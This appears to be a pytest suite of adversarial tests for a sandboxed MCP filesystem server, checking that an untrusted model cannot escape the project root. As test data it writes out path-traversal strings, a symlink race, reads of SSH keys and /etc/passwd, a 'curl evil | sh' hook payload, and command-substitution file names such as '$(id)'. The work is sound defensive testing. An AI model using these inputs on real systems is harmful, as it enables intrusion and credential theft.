"""Adversarial cases for the ``fs`` server (openat2 beneath the root), through real MCP sessions:
every request comes from a model that does whatever it is told. Each test asserts that nothing
outside the grants changed."""

from __future__ import annotations

import os
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from mcp import Client
from mcp.client.stdio import StdioServerParameters

from dispatch.servers.fs.io import MAX_SCAN_BYTES
from tests.sandbox_helpers import Approvals, absent, fs_server, snapshot, tool

pytestmark = pytest.mark.anyio

SECRET = "outside-secret-do-not-leak"


@pytest.fixture
def world(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    """A project root and, beside it, an outside directory with a secret; checks afterwards that
    the outside did not change (tests that grant writes check their own outside)."""
    root = tmp_path / "proj"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("print('app')\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[remote]\n\turl = https://user:token@example.com/x\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET + "\n")
    before = snapshot(outside)
    yield root, outside
    assert snapshot(outside) == before


async def assert_refused(client: Client, name: str, **arguments: object) -> str:
    text, is_error = await tool(client, name, **arguments)
    assert is_error, f"{name}({arguments}) was not refused: {text}"
    assert SECRET not in text
    return text


@pytest.mark.parametrize("given", ["../outside/secret.txt", "{outside}/secret.txt", "src/../../outside/secret.txt"])
async def test_dotdot_and_absolute_paths_become_outside_requests(world: tuple[Path, Path], given: str) -> None:
    root, outside = world
    path = given.format(outside=outside)
    ask = Approvals()
    async with Client(fs_server(root, ask)) as c:
        for name, args in [
            ("read_file", {"path": path}),
            ("write_file", {"path": path, "content": "pwned"}),
            ("edit_file", {"path": path, "old": "outside", "new": "pwned"}),
            ("grep", {"pattern": "secret", "path": path}),
        ]:
            text = await assert_refused(c, name, **args)
            assert "not granted: denied by the test" in text
    target = str(outside / "secret.txt")
    assert ask.requests == [(target, "read"), (target, "write"), (target, "write"), (target, "read")]


async def test_a_symlink_in_the_root_to_etc_is_an_outside_path(world: tuple[Path, Path]) -> None:
    root, _ = world
    (root / "etc").symlink_to("/etc")
    ask = Approvals()
    async with Client(fs_server(root, ask)) as c:
        text = await assert_refused(c, "read_file", path="etc/passwd")
        assert "resolves to '/etc/passwd', outside the project root" in text
        await assert_refused(c, "list_dir", path="etc")
        await assert_refused(c, "write_file", path="etc/dispatch-test-never", content="x")
    assert ask.requests == [("/etc/passwd", "read"), ("/etc", "read"), ("/etc/dispatch-test-never", "write")]
    assert absent("/etc/dispatch-test-never")
    async with Client(fs_server(root)) as c:  # standalone: no one to ask, refused outright
        assert "outside the project root" in await assert_refused(c, "read_file", path="etc/passwd")


async def test_a_symlink_swapped_between_check_and_use_never_leaks(world: tuple[Path, Path]) -> None:
    root, outside = world
    inside = root / "inside"
    inside.mkdir()
    (inside / "secret.txt").write_text("inside text\n")
    flip = root / "flip"
    flip.symlink_to(inside)
    stop = threading.Event()

    def swap() -> None:  # flip the link between inside and outside as fast as possible
        targets = [outside, inside]
        n = 0
        while not stop.is_set():
            tmp = root / f".flip-{n % 2}"
            tmp.unlink(missing_ok=True)
            tmp.symlink_to(targets[n % 2])
            os.replace(tmp, flip)
            n += 1

    racer = threading.Thread(target=swap, daemon=True)
    racer.start()
    ask = Approvals()
    inside_reads = 0
    try:
        async with Client(fs_server(root, ask)) as c:
            for n in range(150):
                text, is_error = await tool(c, "read_file", path="flip/secret.txt")
                assert SECRET not in text
                inside_reads += not is_error
                await tool(c, "write_file", path=f"flip/new-{n}.txt", content="x")
                text, _ = await tool(c, "grep", pattern="secret|text", path="flip")
                assert SECRET not in text
    finally:
        stop.set()
        racer.join()
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert inside_reads > 0  # the race was real: some reads went inside
    assert all(path == str(outside / "secret.txt") or path.startswith(str(outside)) for path, _ in ask.requests)


async def test_a_sibling_whose_name_extends_the_root_is_outside(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    sibling = tmp_path / "proj2"
    root.mkdir()
    sibling.mkdir()
    (sibling / "secret.txt").write_text(SECRET)
    ask = Approvals()
    async with Client(fs_server(root, ask)) as c:
        for path in (str(sibling / "secret.txt"), "../proj2/secret.txt", f"{root}/../proj2/secret.txt"):
            await assert_refused(c, "read_file", path=path)
        await assert_refused(c, "write_file", path=str(sibling / "new.txt"), content="x")
    assert ask.requests == [(str(sibling / "secret.txt"), "read")] * 3 + [(str(sibling / "new.txt"), "write")]
    assert sorted(p.name for p in sibling.iterdir()) == ["secret.txt"]


async def test_fifos_and_devices_are_refused_even_when_granted(world: tuple[Path, Path]) -> None:
    root, _ = world
    os.mkfifo(root / "pipe")
    (root / "zero").symlink_to("/dev/zero")
    async with Client(fs_server(root, Approvals.granting())) as c:
        assert "FIFO" in await assert_refused(c, "read_file", path="pipe")  # returns at once: no writer awaited
        assert "FIFO" in await assert_refused(c, "edit_file", path="pipe", old="a", new="b")
        assert "a device" in await assert_refused(c, "read_file", path="zero")
        text, _ = await tool(c, "grep", pattern="x")  # the walk skips both, and does not hang
        assert "pipe" not in text and "zero" not in text


async def test_reads_are_size_capped(world: tuple[Path, Path]) -> None:
    root, _ = world
    line = b"y" * 1023 + b"\n"
    with (root / "huge.txt").open("wb") as f:
        for _ in range(MAX_SCAN_BYTES // len(line) + 2048):
            f.write(line)
    async with Client(fs_server(root)) as c:
        text, is_error = await tool(c, "read_file", path="huge.txt", limit=3)
        assert not is_error
        assert "[lines 1-3 of at least 6553" in text and text.endswith("; pass offset=4 to read on]")
        assert "larger than 64 MiB" in await assert_refused(c, "edit_file", path="huge.txt", old="y", new="z")
        text, _ = await tool(c, "grep", pattern="y+", path="huge.txt")
        assert text == "no matches for 'y+' in 'huge.txt'"  # skipped, not read


@pytest.mark.parametrize(
    "path",
    [".git/hooks/pre-commit", ".git/config", ".mcp.json", ".dispatch/config.yaml", "sub/.git/hooks/post-checkout"],
)
async def test_always_denied_paths_inside_the_root(world: tuple[Path, Path], path: str) -> None:
    root, _ = world
    (root / "hooks").symlink_to(root / ".git" / "hooks")  # and through a symlink
    before = snapshot(root / ".git")
    ask = Approvals.granting()
    async with Client(fs_server(root, ask)) as c:
        text = await assert_refused(c, "write_file", path=path, content="curl evil | sh\n")
        assert "always denied" in text
        assert "always denied" in await assert_refused(c, "write_file", path="hooks/pre-push", content="x")
        if path == ".git/config":
            assert "token" not in await assert_refused(c, "read_file", path=path)
    assert ask.asked == []  # never put to the user
    assert snapshot(root / ".git") == before
    assert not (root / ".mcp.json").exists() and not (root / ".dispatch").exists() and not (root / "sub").exists()


async def test_home_credentials_are_refused_without_asking(world: tuple[Path, Path]) -> None:
    root, _ = world
    home = Path(os.environ["HOME"])  # a temp dir (tests/conftest.py)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (home / ".bashrc").write_text("# rc\n")
    (root / "keys").symlink_to(home / ".ssh")
    ask = Approvals.granting()
    async with Client(fs_server(root, ask)) as c:
        for path in ("keys/id_ed25519", str(home / ".ssh" / "id_ed25519"), "~/.ssh/id_ed25519"):
            text, is_error = await tool(c, "read_file", path=path)
            assert is_error and SECRET not in text
        assert "always denied" in await assert_refused(c, "write_file", path=str(home / ".bashrc"), content="evil")
        assert "always denied" in await assert_refused(c, "list_dir", path="keys")
    assert ask.asked == []
    assert (home / ".bashrc").read_text() == "# rc\n"


async def test_a_granted_outside_path_is_used_through_its_descriptor(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    data = tmp_path / "data"
    root.mkdir()
    data.mkdir()
    (data / "in.txt").write_text("input\n")
    (data / "escape").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere").mkdir()
    ask = Approvals(
        lambda path, op: (
            Approvals.granting().decide(path, op) if path.startswith(str(data)) else Approvals().decide(path, op)
        )
    )
    async with Client(fs_server(root, ask)) as c:
        assert (await tool(c, "read_file", path=str(data / "in.txt"))) == ("input\n", False)
        text, is_error = await tool(c, "write_file", path="../data/out.txt", content="made\n")
        assert not is_error, text
        text, is_error = await tool(c, "write_file", path=str(data / "escape" / "x.txt"), content="no")
        assert is_error  # the link leads out of the granted directory: a new request, denied
    assert (data / "out.txt").read_text() == "made\n"
    assert sorted(p.name for p in data.iterdir()) == ["escape", "in.txt", "out.txt"]  # no temp file left
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert ask.requests[-1] == (str(tmp_path / "elsewhere" / "x.txt"), "write")


async def test_file_names_that_look_like_options_or_substitutions_are_just_names(world: tuple[Path, Path]) -> None:
    root, _ = world
    async with Client(fs_server(root)) as c:
        for name in ("--help", "$(id)", "-rf", "`touch pwned`", "a;b"):
            text, is_error = await tool(c, "write_file", path=name, content=name)
            assert not is_error, text
        listing, _ = await tool(c, "list_dir")
    for name in ("--help", "$(id)", "-rf", "`touch pwned`", "a;b"):
        assert (root / name).read_text() == name
        assert name in listing
    assert not (root / "pwned").exists()


async def test_the_standalone_stdio_server_refuses_outside_paths(world: tuple[Path, Path]) -> None:
    root, outside = world
    params = StdioServerParameters(command=sys.executable, args=["-m", "dispatch.servers.fs", "--root", str(root)])
    async with Client(params) as c:
        text = await assert_refused(c, "read_file", path=str(outside / "secret.txt"))
        assert "outside the project root" in text
        assert "always denied" in await assert_refused(c, "write_file", path=".git/hooks/x", content="x")
